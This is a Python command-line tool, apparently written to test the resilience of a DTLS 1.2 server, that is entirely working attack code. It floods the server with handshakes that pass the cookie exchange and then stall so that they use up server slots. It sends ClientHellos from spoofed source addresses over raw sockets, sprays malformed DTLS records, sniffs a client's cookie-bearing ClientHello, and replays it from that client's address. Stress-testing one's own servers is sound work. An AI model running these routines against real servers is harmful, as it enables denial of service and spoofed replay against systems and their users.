#!/usr/bin/env python3
"""What an attacker does to a DTLS 1.2 server with nothing but sockets (scripts/attack uses it).

  flood   HOST PORT RATE SECONDS          handshakes that finish the cookie exchange from many ports and
                                          then go silent (RFC 6347 4.2.1): each takes a server slot
  hellos  HOST PORT COUNT NET             cookieless ClientHellos from spoofed sources in NET (raw socket)
  garbage HOST PORT COUNT                 random datagrams, some shaped like DTLS records
  sniff   IFACE SRC PORT SECONDS OUT      the first ClientHello with a cookie from SRC to PORT, saved
  replay  FILE HOST PORT                  sends a saved ClientHello again from its original address

Every loop is bounded by its count or its seconds. Only the addresses given are ever sent to.
"""
import ipaddress
import os
import random
import select
import socket
import struct
import sys
import time

HANDSHAKE, CLIENT_HELLO, HELLO_VERIFY_REQUEST = 22, 1, 3
DTLS12 = b"\xfe\xfd"
# ECDHE with AEAD: what the server accepts (ECDSA and RSA, AES-GCM and ChaCha20-Poly1305).
SUITES = [0xC02B, 0xC02C, 0xCCA9, 0xC02F, 0xC030, 0xCCA8]


def extensions():
    def ext(kind, body):
        return struct.pack("!HH", kind, len(body)) + body
    groups = struct.pack("!H", 4) + struct.pack("!HH", 29, 23)           # x25519, secp256r1
    sigalgs = struct.pack("!H", 6) + struct.pack("!HHH", 0x0403, 0x0804, 0x0401)
    data = (ext(10, groups) + ext(11, b"\x01\x00") + ext(13, sigalgs) + ext(23, b"")
            + ext(0xFF01, b"\x00"))
    return struct.pack("!H", len(data)) + data


def client_hello(client_random, cookie, message_seq, record_seq):
    body = (DTLS12 + client_random + b"\x00" + bytes([len(cookie)]) + cookie
            + struct.pack("!H", 2 * len(SUITES)) + b"".join(struct.pack("!H", s) for s in SUITES)
            + b"\x01\x00" + extensions())
    n = len(body)
    handshake = (bytes([CLIENT_HELLO]) + n.to_bytes(3, "big") + struct.pack("!H", message_seq)
                 + (0).to_bytes(3, "big") + n.to_bytes(3, "big") + body)
    return (bytes([HANDSHAKE]) + DTLS12 + struct.pack("!H", 0) + record_seq.to_bytes(6, "big")
            + struct.pack("!H", len(handshake)) + handshake)


def cookie_of(datagram):
    """The cookie of a HelloVerifyRequest, or None."""
    if len(datagram) < 13 + 12 + 3 or datagram[0] != HANDSHAKE or datagram[13] != HELLO_VERIFY_REQUEST:
        return None
    at = 13 + 12 + 2
    return datagram[at + 1:at + 1 + datagram[at]]


def flood(host, port, rate, seconds):
    """Stalled handshakes at RATE per second for SECONDS; prints how many got past the cookie."""
    end = time.monotonic() + seconds
    pending = {}  # socket -> client random
    started = stalled = 0
    next_start = time.monotonic()
    while time.monotonic() < end:
        now = time.monotonic()
        while next_start <= now and len(pending) < 256:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setblocking(False)
            r = os.urandom(32)
            try:
                s.sendto(client_hello(r, b"", 0, 0), (host, port))
                pending[s] = (r, now)
                started += 1
            except OSError:
                s.close()
            next_start += 1.0 / rate
        ready, _, _ = select.select(list(pending), [], [], 0.005)
        for s in ready:
            r, _ = pending.pop(s)
            try:
                cookie = cookie_of(s.recv(2048))
                if cookie:
                    s.sendto(client_hello(r, cookie, 1, 1), (host, port))
                    stalled += 1
            except OSError:
                pass
            s.close()  # silent from now on: the server's flight is dropped or refused
        for s, (_, t) in list(pending.items()):
            if now - t > 2:
                pending.pop(s)
                s.close()
    for s in pending:
        s.close()
    print(f"flood: {started} ClientHellos, {stalled} handshakes past the cookie and left stalled")


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def raw_udp(src, sport, dst, dport, payload):
    """An IPv4 packet carrying a UDP datagram, for a raw socket (no UDP checksum: allowed over IPv4)."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp


def hellos(host, port, count, net):
    hosts = list(ipaddress.ip_network(net).hosts())
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    deadline = time.monotonic() + 60
    for i in range(count):
        if time.monotonic() > deadline:
            break
        src = str(random.choice(hosts))
        try:
            s.sendto(raw_udp(src, random.randrange(1024, 65536), host, port, client_hello(os.urandom(32), b"", 0, 0)),
                     (host, 0))
            sent += 1
        except OSError:
            pass
        if i % 200 == 199:
            time.sleep(0.01)  # about 10,000 a second at most
    print(f"hellos: {sent} cookieless ClientHellos from spoofed sources in {net}")


def garbage(host, port, count):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(count):
        kind = i % 4
        if kind == 0:
            d = os.urandom(random.randrange(1, 1500))
        elif kind == 1:  # a record header of epoch 1 with a random body
            d = bytes([23]) + DTLS12 + b"\x00\x01" + os.urandom(6) + struct.pack("!H", 64) + os.urandom(64)
        elif kind == 2:  # a connection ID record (RFC 9146) with a random CID
            d = bytes([25]) + DTLS12 + b"\x00\x01" + os.urandom(6) + os.urandom(8) + struct.pack("!H", 48) + os.urandom(48)
        else:  # a truncated ClientHello
            d = client_hello(os.urandom(32), b"", 0, 0)[:random.randrange(1, 60)]
        try:
            s.sendto(d, (host, port))
        except OSError:
            pass
        if i % 500 == 499:
            time.sleep(0.01)
    print(f"garbage: {count} datagrams")


def sniff(iface, src, port, seconds, out):
    # ETH_P_ALL: a packet socket bound to one protocol does not see the frames this host sends
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    s.bind((iface, 0))
    s.settimeout(0.2)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            frame = s.recv(65535)
        except socket.timeout:
            continue
        ip = frame[14:]
        if frame[12:14] != b"\x08\x00" or len(ip) < 28 or ip[9] != 17 or socket.inet_ntoa(ip[12:16]) != src:
            continue
        ihl = (ip[0] & 0x0F) * 4
        sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
        payload = ip[ihl + 8:]
        if dport != port or len(payload) < 13 + 12 + 35 or payload[0] != HANDSHAKE or payload[13] != CLIENT_HELLO:
            continue
        if payload[13 + 12 + 2 + 32 + 1 + payload[13 + 12 + 2 + 32]] == 0:
            continue  # no cookie yet
        with open(out, "wb") as f:
            f.write(struct.pack("!4sH", ip[12:16], sport) + payload)
        print(f"sniff: a ClientHello with a cookie from {src}:{sport}")
        return
    print("sniff: none seen")
    sys.exit(1)


def replay(path, host, port):
    with open(path, "rb") as f:
        data = f.read()
    src, sport = socket.inet_ntoa(data[:4]), struct.unpack("!H", data[4:6])[0]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(3):
        s.sendto(raw_udp(src, sport, host, port, data[6:]), (host, 0))
        time.sleep(0.2)
    print(f"replay: the ClientHello of {src}:{sport} sent again 3 times")


def main(argv):
    if len(argv) < 2:
        sys.exit(__doc__)
    cmd, a = argv[1], argv[2:]
    if cmd == "flood":
        flood(a[0], int(a[1]), float(a[2]), float(a[3]))
    elif cmd == "hellos":
        hellos(a[0], int(a[1]), int(a[2]), a[3])
    elif cmd == "garbage":
        garbage(a[0], int(a[1]), int(a[2]))
    elif cmd == "sniff":
        sniff(a[0], a[1], int(a[2]), float(a[3]), a[4])
    elif cmd == "replay":
        replay(a[0], a[1], int(a[2]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv)
